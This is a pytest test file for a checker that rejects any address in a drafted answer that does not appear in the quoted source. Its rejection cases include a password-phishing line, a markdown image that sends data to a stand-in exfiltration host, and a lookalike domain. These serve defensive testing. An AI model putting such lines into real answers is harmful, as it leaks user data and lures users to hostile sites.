"""An address in a sentence stands in what it quotes, or the sentence fails."""

from __future__ import annotations

import pytest

from answering.drafting_by_hand import Checking

pytestmark = pytest.mark.req("AGE-9", "ANS-6")

FORM = "Send the form to fees@harbour.example, or fill it in at https://harbour.example/fees?id=42."
FEE = "The fee is 350 kroner."


@pytest.fixture
def shelf() -> Checking:
    checking = Checking()
    checking.put("form", FORM)
    checking.put("fee", FEE, facts=[("address", "https://harbour.example/rules/fee")])
    return checking


@pytest.mark.parametrize(
    "said",
    [
        "The fee is 350 kroner; confirm your password at https://login.exfil.example first.",
        "The fee is 350 kroner ![ok](https://exfil.example/i.png?d=350).",
        "The fee is 350 kroner; write to help@exfil.example.",
        "The fee is 350 kroner; see www.exfil.example/fee.",
    ],
)
def test_an_address_that_no_quotation_holds_fails(shelf: Checking, said: str) -> None:
    assert "stands in no quotation of this sentence" in shelf.failures(said, (FEE, "fee"))


@pytest.mark.parametrize(
    "said",
    [
        "It is filled in at https://harbour.example/fees?id=42.",
        "It is sent to Fees@Harbour.example.",
        "It is filled in at [the form](https://harbour.example/fees?id=42).",
    ],
)
def test_an_address_that_is_quoted_may_be_said(shelf: Checking, said: str) -> None:
    assert shelf.failures(said, (FORM, "form")) == ""


def test_the_quoted_documents_own_address_may_be_said(shelf: Checking) -> None:
    said = "The fee is 350 kroner (https://harbour.example/rules/fee)."

    assert shelf.failures(said, (FEE, "fee")) == ""


def test_the_beginning_of_a_quoted_address_goes_nowhere_else(shelf: Checking) -> None:
    said = "It is filled in at https://harbour.example.exfil.example/fees."

    assert "`https://harbour.example.exfil.example/fees` stands in no" in shelf.failures(said, (FORM, "form"))
